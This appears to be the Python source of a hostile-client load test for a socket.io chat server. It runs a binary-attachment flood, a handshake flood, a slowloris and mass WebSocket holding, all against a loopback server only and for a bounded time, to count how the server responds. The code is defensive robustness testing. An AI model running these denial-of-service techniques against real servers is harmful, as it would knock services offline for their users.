"""The hostile client of the hostile-client scenario (loadtests/hostile.py):
one process on 127.0.0.1, so one address group, that runs its attacks at
once against one chatserver for a bounded time and counts what the server
answered.

    python -m loadtests.attacks PLAN.json   (prints one JSON object)

- ``binary``: a raw WebSocket, engine.io open, join ``/youth``, a
  binary-event header announcing 10^9 attachments, then binary frames as
  fast as the socket takes them until the server closes it; then again;
- ``flood``: long-polling engine.io handshakes as fast as possible, never
  polled;
- ``slowloris``: TCP sockets that each send part of an HTTP request and then
  one more byte every few seconds, never finishing it;
- ``hold``: WebSocket sessions joined to ``/youth`` and held open (answering
  engine.io pings), as many as the server accepts, up to a count.

The first binary attack runs alone before the others start: the flood keeps
the address group's pending-handshake bound full, and a binary attack that
only ever met a 401 would not show what the server does with the packet.

Every loop stops at the plan's deadline; only the plan's loopback server is
spoken to. Nothing here logs: the JSON on stdout is the whole output.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import random
import sys
import time
from collections import Counter
from dataclasses import asdict, dataclass, field
from typing import Any
from urllib.parse import urlsplit

import aiohttp

ATTACKS = ("binary", "flood", "slowloris", "hold")
POLLING_PATH = "/socket.io/?EIO=4&transport=polling"
WEBSOCKET_PATH = "/socket.io/?EIO=4&transport=websocket"
# engine.io MESSAGE (4) carrying a socket.io BINARY_EVENT (5) on /youth, ack
# id 0, that announces 10^9 attachment frames to follow.
BINARY_HEADER = '451000000000-/youth,0["send",{"_placeholder":true,"num":0}]'
JOIN_YOUTH = "40/youth,"
ENGINEIO_PING, ENGINEIO_PONG = "2", "3"
# How long one binary attack keeps sending before it counts as "not closed".
BINARY_CLOSE_WAIT_SECS = 10.0
# Bounds on a single step, so that a server that stops answering cannot
# hold an attack past its deadline by more than this.
STEP_SECS = 10.0
HOLD_WORKERS = 8
SLOWLORIS_CONNECTING = 100  # sockets in connect() at once


@dataclass(frozen=True)
class Plan:
    base: str  # http://127.0.0.1:PORT
    origin: str  # the server's public origin (an allowed Origin header)
    secs: float
    attacks: tuple[str, ...] = ATTACKS
    binary_loops: int = 2
    binary_frame_bytes: int = 16_000  # under max_event_bytes: the binary rule, not the size one
    flood_workers: int = 16
    slowloris: int = 1000
    drip_secs: float = 3.0
    hold: int = 1000

    @classmethod
    def from_json(cls, data: dict[str, Any]) -> Plan:
        data = dict(data)
        data["attacks"] = tuple(data.get("attacks", ATTACKS))
        return cls(**data)


@dataclass
class Tally:
    """What one attack saw: counters, and its own peak of live sockets."""

    counts: Counter[str] = field(default_factory=Counter)
    live: int = 0
    peak_live: int = 0
    extra: dict[str, Any] = field(default_factory=dict)

    def up(self) -> None:
        self.live += 1
        self.peak_live = max(self.peak_live, self.live)

    def down(self) -> None:
        self.live -= 1

    def as_dict(self) -> dict[str, Any]:
        return {"counts": dict(sorted(self.counts.items())), "peak_live": self.peak_live,
                **self.extra}


class Refused(Exception):
    """The server refused the WebSocket upgrade or the namespace join."""

    def __init__(self, what: str) -> None:
        super().__init__(what)
        self.what = what


def _ws_url(plan: Plan) -> str:
    return plan.base.replace("http", "ws", 1) + WEBSOCKET_PATH


async def _open_youth(http: aiohttp.ClientSession, plan: Plan
                      ) -> aiohttp.ClientWebSocketResponse:
    """engine.io open over a WebSocket and the socket.io CONNECT to /youth."""
    try:
        ws = await http.ws_connect(_ws_url(plan), headers={"Origin": plan.origin},
                                   timeout=aiohttp.ClientWSTimeout(ws_close=1.0))
    except aiohttp.WSServerHandshakeError as exc:
        raise Refused(f"http_{exc.status}") from None
    try:
        opened = await ws.receive(timeout=STEP_SECS)
        if opened.type is not aiohttp.WSMsgType.TEXT or not str(opened.data).startswith("0"):
            raise Refused("no_open")
        await ws.send_str(JOIN_YOUTH)
        while True:
            msg = await ws.receive(timeout=STEP_SECS)
            if msg.type is not aiohttp.WSMsgType.TEXT:
                raise Refused("closed_before_join")
            text = str(msg.data)
            if text.startswith(JOIN_YOUTH):
                return ws
            if text.startswith("44/youth,"):
                raise Refused("join_refused")
            if text == ENGINEIO_PING:
                await ws.send_str(ENGINEIO_PONG)
    except BaseException:
        await ws.close()
        raise


# ------------------------------------------------------------------ binary

async def _until_closed(ws: aiohttp.ClientWebSocketResponse) -> None:
    async for _msg in ws:  # anything the server says before it closes is passed over
        pass


async def binary_once(http: aiohttp.ClientSession, plan: Plan, deadline: float,
                      tally: Tally) -> None:
    tally.counts["attempts"] += 1
    try:
        ws = await _open_youth(http, plan)
    except Refused as exc:
        tally.counts[f"refused_{exc.what}"] += 1
        return
    except (aiohttp.ClientError, OSError, TimeoutError):
        tally.counts["connect_errors"] += 1
        return
    tally.up()
    frame = bytes(plan.binary_frame_bytes)
    frames = 0
    try:
        try:
            await ws.send_str(BINARY_HEADER)
        except (ConnectionError, aiohttp.ClientError, OSError):
            tally.counts["lost_before_header"] += 1
            return
        tally.counts["headers_sent"] += 1
        reader = asyncio.ensure_future(_until_closed(ws))
        give_up = min(deadline, time.monotonic() + BINARY_CLOSE_WAIT_SECS)
        while not reader.done() and not ws.closed and time.monotonic() < give_up:
            try:
                await ws.send_bytes(frame)
            except (ConnectionError, aiohttp.ClientError, RuntimeError):
                break  # the server closed the socket under us
            frames += 1
            await asyncio.sleep(0)  # let the reader see a close
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(asyncio.shield(reader), max(0.0, give_up - time.monotonic()))
        if reader.done() or ws.closed:
            tally.counts["closed_by_server"] += 1
            code = ws.close_code
            tally.counts[f"close_code_{code}"] += 1
        else:
            tally.counts["not_closed"] += 1
        reader.cancel()
        await asyncio.gather(reader, return_exceptions=True)
    except (ConnectionError, aiohttp.ClientError, OSError):
        tally.counts["closed_by_server"] += 1
        tally.counts["close_code_reset"] += 1
    finally:
        tally.down()
        tally.counts["frames_sent"] += frames
        tally.extra["max_frames_before_close"] = max(
            tally.extra.get("max_frames_before_close", 0), frames)
        await ws.close()


async def binary_loop(http: aiohttp.ClientSession, plan: Plan, deadline: float,
                      tally: Tally) -> None:
    while time.monotonic() < deadline:
        await binary_once(http, plan, deadline, tally)


# ------------------------------------------------------------------ flood

async def flood_worker(http: aiohttp.ClientSession, plan: Plan, deadline: float,
                       tally: Tally) -> None:
    url = plan.base + POLLING_PATH
    headers = {"Origin": plan.origin}
    while time.monotonic() < deadline:
        try:
            async with http.get(url, headers=headers) as resp:
                body = await resp.read()
                status = resp.status
        except (aiohttp.ClientError, OSError, TimeoutError):
            tally.counts["connect_errors"] += 1
            await asyncio.sleep(0.01)
            continue
        tally.counts["requests"] += 1
        if status == 200:
            tally.counts["accepted_200"] += 1
        elif status == 401:
            try:
                code = json.loads(body).get("error", "")
            except (ValueError, AttributeError):
                code = ""
            tally.counts[f"refused_401_{code or 'no_code'}"] += 1
        else:
            tally.counts[f"http_{status}"] += 1


# ------------------------------------------------------------------ slowloris

def _slowloris_start(i: int, plan: Plan) -> bytes:
    """Half the sockets stop inside the request line, half inside the headers."""
    if i % 2:
        return b"GET /socket.io/?EIO=4&transport=pol"
    host = urlsplit(plan.base).netloc
    return (f"GET {POLLING_PATH} HTTP/1.1\r\nHost: {host}\r\nOrigin: {plan.origin}\r\n"
            "X-Wait: ").encode()


async def slowloris_socket(i: int, plan: Plan, deadline: float, connecting: asyncio.Semaphore,
                           tally: Tally) -> None:
    parts = urlsplit(plan.base)
    try:
        async with connecting:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(parts.hostname, parts.port), STEP_SECS)
    except (OSError, TimeoutError):
        tally.counts["connect_errors"] += 1
        return
    tally.counts["opened"] += 1
    tally.up()
    try:
        writer.write(_slowloris_start(i, plan))
        await writer.drain()
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                tally.counts["open_at_deadline"] += 1
                return
            # Jitter, so that 1 000 sockets do not drip in one burst.
            wait = min(left, plan.drip_secs * random.uniform(0.8, 1.2))
            try:
                data = await asyncio.wait_for(reader.read(4096), wait)
            except TimeoutError:
                writer.write(b"x")
                await writer.drain()
                tally.counts["bytes_dripped"] += 1
                continue
            if not data:
                tally.counts["closed_by_server"] += 1
            else:
                status = data.split(b"\r\n", 1)[0].decode(errors="replace")[:40]
                tally.counts[f"answered {status}"] += 1
            return
    except (ConnectionError, OSError):
        tally.counts["closed_by_server"] += 1
    finally:
        tally.down()
        writer.close()
        with contextlib.suppress(ConnectionError, OSError):
            await writer.wait_closed()


async def slowloris(plan: Plan, deadline: float, tally: Tally) -> None:
    connecting = asyncio.Semaphore(SLOWLORIS_CONNECTING)
    await asyncio.gather(*(slowloris_socket(i, plan, deadline, connecting, tally)
                           for i in range(plan.slowloris)))


# ------------------------------------------------------------------ hold

async def _keep(ws: aiohttp.ClientWebSocketResponse, deadline: float, tally: Tally) -> None:
    """Answer engine.io pings until the deadline; count a close by the server."""
    try:
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                tally.counts["held_at_deadline"] += 1
                return
            try:
                msg = await ws.receive(timeout=left)
            except TimeoutError:
                continue  # the deadline, counted above
            if msg.type is not aiohttp.WSMsgType.TEXT:
                tally.counts["dropped_by_server"] += 1
                return
            if msg.data == ENGINEIO_PING:
                await ws.send_str(ENGINEIO_PONG)
    except (ConnectionError, aiohttp.ClientError, OSError):
        tally.counts["dropped_by_server"] += 1
    finally:
        tally.down()
        await ws.close()


async def hold(http: aiohttp.ClientSession, plan: Plan, deadline: float, tally: Tally) -> None:
    keepers: list[asyncio.Task[None]] = []
    trying = 0  # attempts in flight, so that the workers stop at plan.hold

    async def opener() -> None:
        nonlocal trying
        while time.monotonic() < deadline and tally.counts["accepted"] + trying < plan.hold:
            tally.counts["attempts"] += 1
            trying += 1
            try:
                ws = await _open_youth(http, plan)
            except Refused as exc:
                tally.counts[f"refused_{exc.what}"] += 1
                await asyncio.sleep(0.02)  # then try again: as many as it accepts
                continue
            except (aiohttp.ClientError, OSError, TimeoutError):
                tally.counts["connect_errors"] += 1
                await asyncio.sleep(0.02)
                continue
            finally:
                trying -= 1
            tally.counts["accepted"] += 1
            tally.up()
            keepers.append(asyncio.ensure_future(_keep(ws, deadline, tally)))

    await asyncio.gather(*(opener() for _ in range(min(HOLD_WORKERS, plan.hold))))
    await asyncio.gather(*keepers)


# ------------------------------------------------------------------ the run

async def run(plan: Plan) -> dict[str, Any]:
    started = time.monotonic()
    deadline = started + plan.secs
    tallies = {name: Tally() for name in plan.attacks}
    # No pool limit (held WebSockets keep their connection) and no cookies.
    connector = aiohttp.TCPConnector(limit=0)
    timeout = aiohttp.ClientTimeout(total=STEP_SECS)
    async with aiohttp.ClientSession(connector=connector, timeout=timeout,
                                     cookie_jar=aiohttp.DummyCookieJar()) as http:
        jobs = []
        if "binary" in tallies:
            await binary_once(http, plan, deadline, tallies["binary"])
            jobs += [binary_loop(http, plan, deadline, tallies["binary"])
                     for _ in range(plan.binary_loops)]
        if "flood" in tallies:
            jobs += [flood_worker(http, plan, deadline, tallies["flood"])
                     for _ in range(plan.flood_workers)]
        if "slowloris" in tallies:
            jobs.append(slowloris(plan, deadline, tallies["slowloris"]))
        if "hold" in tallies:
            jobs.append(hold(http, plan, deadline, tallies["hold"]))
        # The loops stop by themselves at the deadline; this only bounds a hang.
        await asyncio.wait_for(asyncio.gather(*jobs), plan.secs + 2 * STEP_SECS)
    secs = time.monotonic() - started
    return {"plan": asdict(plan), "secs": round(secs, 2),
            "attacks": {name: t.as_dict() for name, t in tallies.items()}}


def main(argv: list[str]) -> int:
    with open(argv[0], encoding="utf-8") as fh:
        plan = Plan.from_json(json.load(fh))
    if urlsplit(plan.base).hostname != "127.0.0.1":
        raise SystemExit("attacks: loopback (127.0.0.1) only")
    print(json.dumps(asyncio.run(run(plan))))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
